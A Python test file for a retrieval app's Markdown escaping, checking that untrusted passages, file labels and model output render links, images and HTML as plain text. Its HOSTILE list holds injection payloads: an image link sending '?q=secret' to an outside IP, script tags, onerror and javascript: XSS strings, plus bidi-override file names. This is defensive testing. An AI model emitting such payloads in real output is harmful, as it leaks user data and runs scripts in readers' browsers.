"""Untrusted text as inert Markdown: escaping labels and passages, and rendering model output with its
links and images shown as text (checked by an independent GFM reading, tests/markdown_check.py)."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag.text.escape import code_span, escape_label, escape_markdown, plain_label, visible
from rag.text.safe_markdown import safe_markdown
from tests.markdown_check import _GFM, live_markup, shown_text, token_types

HOST = "203.0.113.7"
HOSTILE = [
    f"![x](http://{HOST}/?q=secret)",
    f"[click](http://{HOST}/login)",
    f"[a][1]\n\n[1]: http://{HOST}/ref",
    f"<http://{HOST}/auto>",
    f"http://{HOST}/bare and HTTPS://{HOST.upper()}/x",
    "www.example.org/path",
    "mail me: someone@example.org",
    "mailto:someone@example.org",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    f"![a ![b](http://{HOST}/b)](http://{HOST}/a)",
    f"[x [y] z](http://{HOST}/nested)",
    f"[![img](http://{HOST}/i)](http://{HOST}/l)",
    "&lt;img src=x onerror=alert(1)&gt;",
    f"![x](https:{HOST}?q=noslash)",
    f'<a href="http://{HOST}/">anchor</a>',
    "[js](javascript:alert(1))",
    "$\\href{http://203.0.113.7}{x}$ and $$x$$",
    ":red[coloured] :material/home: **bold**",
    f"[ref]\n\n[ref]: http://{HOST}/shortcut",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_has_no_live_markup_and_reads_as_written(text: str) -> None:
    escaped = escape_markdown(text)
    assert live_markup(escaped) == []
    assert shown_text(escaped) == " ".join(text.split())


@settings(max_examples=300, deadline=None, derandomize=True)  # the same examples on every CI run
@example("`@$")  # once found by a random run: an escaped backtick before a code span holding "$"
@given(st.text(alphabet="ab1 .:/@w<>![]()`*_#-+=|~$&\\\n\t\u202e\u200b", max_size=60))
def test_any_text_escapes_to_itself_without_markup(text: str) -> None:
    escaped = escape_markdown(text)
    assert live_markup(escaped) == [], escaped
    expected = " ".join(line.lstrip(" \t") for line in text.split("\n"))
    assert shown_text(escaped) == " ".join(expected.split()), escaped


def test_line_start_markup_is_escaped() -> None:
    text = "# not a heading\n- not a list\n1. not a list\n2) nor this\n> no quote\n    no code\n---\n==="
    escaped = escape_markdown(text)
    assert token_types(escaped) <= {"paragraph_open", "paragraph_close", "inline", "text", "softbreak"}
    assert shown_text(escaped) == " ".join(text.split())


def test_code_span_fences_any_backticks() -> None:
    for text in ("a`b", "``x``", "`", "a ``` b", " lead", "trail ", " both ", "![x](http://h/)"):
        tokens = [t for t in _GFM.parse(code_span(text))[1].children if t.type == "code_inline"]
        assert [t.content for t in tokens] == [text], code_span(text)


def test_the_checker_sees_live_markup_in_raw_text() -> None:
    """tests/markdown_check.py catches what it is used to rule out (and today's regex escaping fails it)."""
    for text in (f"![x](http://{HOST}/?q=secret)", f"[click](http://{HOST}/login)", f"<http://{HOST}/auto>",
                 f"http://{HOST}/bare", "www.example.org", "someone@example.org", "<img src=x onerror=alert(1)>",
                 "$x$", f"![x](https:{HOST}?q=noslash)"):
        assert live_markup(text), text
    # the app's earlier escaping (a backslash before every special character) leaves autolinks live
    assert live_markup(re.sub(r"([\\`*_{}\[\]()#+\-.!|<>~$:=])", r"\\\1", f"see http://{HOST}/bare"))


def test_visible_spells_out_bidi_overrides_and_zero_width_characters() -> None:
    name = "notes\u202eexe\u200b.pdf"
    assert visible(name) == "notes<U+202E>exe<U+200B>.pdf"
    for char in ["\u202a", "\u202b", "\u202c", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069",
                 "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\x1b"]:
        assert visible(f"a{char}b") == f"a<U+{ord(char):04X}>b"
    assert visible("普通的名字.pdf") == "普通的名字.pdf"


def test_labels_are_one_line_visible_and_escaped() -> None:
    name = f"![n](https:{HOST}?q=name)\n**big**\u202egnp.pdf"
    label = escape_label(name)
    assert "\n" not in label and live_markup(label) == []
    assert shown_text(label) == f"![n](https:{HOST}?q=name) **big**<U+202E>gnp.pdf"
    assert plain_label(name) == f"![n](https:{HOST}?q=name) **big**<U+202E>gnp.pdf"


def test_model_output_keeps_harmless_markdown() -> None:
    answer = ("The dose is **1200 mg** per day [1], *not* more.\n\n"
              "- first `code ![x](y)` stays code\n- second\n  1. nested\n\n"
              "> quoted\n\n```python\nprint('![x](y)')\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n~~old~~")
    rendered = safe_markdown(answer)
    assert live_markup(rendered) == []
    types = token_types(rendered)
    assert {"strong_open", "em_open", "bullet_list_open", "ordered_list_open", "blockquote_open", "fence",
            "table_open", "s_open", "code_inline"} <= types
    assert "`code ![x](y)`" in rendered  # a code span holding image syntax stays that code span
    assert "print('![x](y)')" in rendered
    assert "[1]" in shown_text(rendered)


@pytest.mark.parametrize("text", HOSTILE)
def test_model_output_shows_links_images_and_html_as_text(text: str) -> None:
    rendered = safe_markdown(f"The document says {text} — end.")
    assert live_markup(rendered) == [], rendered
    shown = shown_text(rendered)
    assert "end." in shown
    for literal in (f"http://{HOST}/?q=secret", "<img src=x onerror=alert(1)>", "<script>", f"[1]: http://{HOST}/ref",
                    "[a][1]", f"<http://{HOST}/auto>", "javascript:alert(1)"):
        if literal in text:
            assert literal in shown


def test_every_prefix_of_a_streamed_answer_is_inert() -> None:
    answer = " ".join(HOSTILE) + " **done** [1]."
    for end in range(len(answer) + 1):
        assert live_markup(safe_markdown(answer[:end])) == [], answer[:end]


def test_an_escaped_answer_renders_the_same_again() -> None:
    answer = f"Use ![x](http://{HOST}/?q=1) and **bold** `code`."
    once = safe_markdown(answer)
    assert shown_text(safe_markdown(once)) == shown_text(once)
